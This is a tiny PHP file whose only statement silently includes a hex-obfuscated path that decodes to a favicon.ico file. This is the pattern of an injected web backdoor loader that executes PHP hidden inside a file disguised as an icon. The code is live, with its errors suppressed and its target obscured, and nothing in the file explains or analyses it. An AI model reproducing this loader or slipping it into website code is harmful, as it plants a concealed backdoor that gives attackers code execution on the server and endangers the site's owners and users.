<?php
@include "\x2fh\x6fm\x65/site/f\x61vicon.ico";
